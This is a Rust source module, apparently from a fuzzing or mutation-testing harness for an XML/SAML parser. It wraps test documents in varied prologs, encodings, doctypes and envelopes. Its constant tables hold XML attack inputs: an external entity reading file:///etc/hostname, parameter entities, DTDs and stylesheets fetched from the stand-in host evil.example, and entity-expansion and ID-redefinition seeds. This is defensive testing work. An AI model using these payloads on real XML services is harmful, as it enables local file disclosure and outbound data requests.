//! What stands around the root: declarations of encodings and versions, document types, a second root.

use super::{Edits, Operator, split};

pub(super) const OPERATORS: &[Operator] = &[
    Operator {
        name: "harmless prolog",
        weight: 1,
        instances: |_| HARMLESS.len(),
        make: |s, n, _| around(s.markup.text, HARMLESS[n]),
    },
    Operator {
        name: "prolog or epilog",
        weight: 3,
        instances: |_| AROUND.len(),
        make: |s, n, _| around(s.markup.text, AROUND[n]),
    },
    Operator {
        name: "entity declared and used",
        weight: 1,
        instances: |s| DOCTYPES.len() * s.markup.runs.len(),
        make: |s, n, _| {
            let (doctype, run) = split(n, DOCTYPES.len());
            let edits = Edits::insert(s.markup.elements[0].range.start, DOCTYPES[doctype]);
            Some(edits.and_replace(&s.markup.runs[run].range, "&e;"))
        },
    },
];

/// Before and after the document.
const HARMLESS: &[(&str, &str)] = &[
    ("<?xml version=\"1.0\"?>", ""),
    ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n", ""),
    ("<?xml version='1.0' encoding='utf-8' standalone='yes'?>", ""),
    ("\u{feff}", ""),
    ("\u{feff}<?xml version=\"1.0\"?>", ""),
    ("<!-- c -->", ""),
    ("\n", "\n"),
    ("", "<!-- c -->\n"),
];

const AROUND: &[(&str, &str)] = &[
    ("<?xml version=\"1.0\" encoding=\"UTF-16\"?>", ""),
    ("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>", ""),
    ("<?xml version=\"1.0\" encoding=\"UTF-7\"?>", ""),
    ("<?xml version=\"1.0\" encoding=\"windows-1252\"?>", ""),
    ("<?xml version=\"1.0\" encoding=\"EBCDIC-CP-US\"?>", ""),
    ("<?xml version=\"1.0\" encoding=\"\"?>", ""),
    ("<?xml version=\"1.1\"?>", ""),
    ("<?xml version=\"1.1\" encoding=\"UTF-8\"?>", ""),
    ("<?xml version=\"2.0\"?>", ""),
    ("<?xml encoding=\"UTF-8\"?>", ""),
    ("<?xml version=\"1.0\"?><?xml version=\"1.0\"?>", ""),
    (" <?xml version=\"1.0\"?>", ""),
    ("<?xml-stylesheet href=\"https://evil.example/x.xsl\" type=\"text/xsl\"?>", ""),
    ("<!DOCTYPE Response>", ""),
    ("<!DOCTYPE samlp:Response SYSTEM \"https://evil.example/x.dtd\">", ""),
    ("<!DOCTYPE x [<!ATTLIST Assertion ID ID #IMPLIED>]>", ""),
    ("<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]>", ""),
    ("<x/>", ""),
    ("", "<x/>"),
    ("", "x"),
    ("x", ""),
    ("\0", ""),
    ("", "\0"),
    ("", "<?p?>"),
    ("", "<![CDATA[]]>"),
    ("\u{feff}\u{feff}", ""),
    ("\u{fffe}", ""),
    (
        "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body>",
        "</soap:Body></soap:Envelope>",
    ),
    (
        "<samlp:ArtifactResponse xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\">",
        "</samlp:ArtifactResponse>",
    ),
    ("<![CDATA[", "]]>"),
    ("<!--", "-->"),
];

const DOCTYPES: &[&str] = &[
    "<!DOCTYPE x [<!ENTITY e \"admin@contoso.com\">]>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/hostname\">]>",
    "<!DOCTYPE x [<!ENTITY % p SYSTEM \"https://evil.example/p\">%p;]>",
];

/// What the bytes become where they are not UTF-8 any more.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(in crate::mutation) enum Recoding {
    Latin1,
    NulAtTheEnd,
    Overlong,
    Utf16BigEndian,
    Utf16LittleEndian,
    Utf16WithoutMark,
}

impl Recoding {
    pub(in crate::mutation) const ALL: [Self; 6] = [
        Self::Latin1,
        Self::NulAtTheEnd,
        Self::Overlong,
        Self::Utf16BigEndian,
        Self::Utf16LittleEndian,
        Self::Utf16WithoutMark,
    ];

    pub(in crate::mutation) fn bytes(self, text: &str) -> Vec<u8> {
        let units = |mark: bool, bytes: fn(u16) -> [u8; 2]| {
            let mark = mark.then_some(0xfeff);
            mark.into_iter().chain(text.encode_utf16()).flat_map(bytes).collect()
        };
        match self {
            // The é is one byte, which is no UTF-8.
            Self::Latin1 => {
                let head = b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><!-- \xe9 -->";
                [head, text.as_bytes()].concat()
            }
            Self::NulAtTheEnd => [text.as_bytes(), b"\0"].concat(),
            // `<` in two bytes.
            Self::Overlong => [b"\xc0\xbc", text.get(1..).unwrap_or_default().as_bytes()].concat(),
            Self::Utf16BigEndian => units(true, u16::to_be_bytes),
            Self::Utf16LittleEndian => units(true, u16::to_le_bytes),
            Self::Utf16WithoutMark => units(false, u16::to_be_bytes),
        }
    }
}

fn around(text: &str, (before, after): (&str, &str)) -> Option<Edits> {
    Some(Edits::insert(0, before).and_insert(text.len(), after))
}
